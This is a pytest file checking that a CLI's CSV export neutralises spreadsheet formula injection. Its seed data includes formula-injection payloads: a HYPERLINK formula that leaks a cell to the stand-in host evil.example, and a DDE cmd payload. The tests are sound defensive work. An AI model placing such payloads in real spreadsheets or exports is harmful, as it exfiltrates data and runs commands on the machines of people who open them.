"""`relais export` as an operator runs it: CSV cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
from datetime import UTC, datetime

import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from bot import db
from models import Member, Platform, Post, PostState, Workspace
from tests.bot.test_cli import RELAIS, _environment, relais
from tests.conftest import run_in_thread

# Rows these tests write themselves are stamped with a fixed time (there is no wall-clock default).
CREATED = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)

NAMES = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
    "Ada Lovelace",
    "Zoë = friend",
    "Bob\rSmith",  # a CR inside a cell stays in that cell
)


async def _seed(url: str) -> None:
    engine = db.create_engine(url)
    async with AsyncSession(engine) as session:
        workspace = Workspace(
            platform=Platform.SLACK, external_id="T1", name="Acme", created_at=CREATED, updated_at=CREATED
        )
        session.add(workspace)
        await session.flush()
        session.add_all(
            Member(
                workspace_id=workspace.id,
                external_id=f"U{index}",
                display_name=name,
                created_at=CREATED,
                updated_at=CREATED,
            )
            for index, name in enumerate(NAMES)
        )
        session.add(
            Post(workspace_id=workspace.id, url="https://example.com/a", title="=1+1", state=PostState.DRAFT,
                 channels=["-C1"], networks=["linkedin"], created_at=CREATED, updated_at=CREATED)
        )  # fmt: skip
        await session.commit()
    await engine.dispose()


@pytest.fixture
def seeded(empty_database_url: str) -> str:
    assert relais("migrate", DATABASE_URL=empty_database_url).returncode == 0
    run_in_thread(lambda: asyncio.run(_seed(empty_database_url)))
    return empty_database_url


def _export_csv(kind: str, url: str) -> list[dict[str, str]]:
    """The CSV as written, byte for byte (text mode would turn a lone CR into a newline)."""
    result = subprocess.run(
        [RELAIS, "export", kind],
        env=_environment(DATABASE_URL=url),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout.decode("utf-8"), newline="")))


def test_csv_export_neutralises_formulas_and_json_keeps_the_text(seeded: str) -> None:
    names = [row["name"] for row in _export_csv("members", seeded)]
    assert names == [
        "'" + NAMES[0],
        "'" + NAMES[1],
        "'-2+3",
        "'@SUM(1+1)",
        "'\tTabbed",
        "'\rReturned",
        "Ada Lovelace",
        "Zoë = friend",
        "Bob\rSmith",
    ]
    [post] = _export_csv("posts", seeded)
    assert (post["title"], post["channels"], post["id"]) == ("'=1+1", "'-C1", "1")

    as_json = relais("export", "members", "--format", "json", DATABASE_URL=seeded)
    assert [row["name"] for row in json.loads(as_json.stdout)] == list(NAMES)
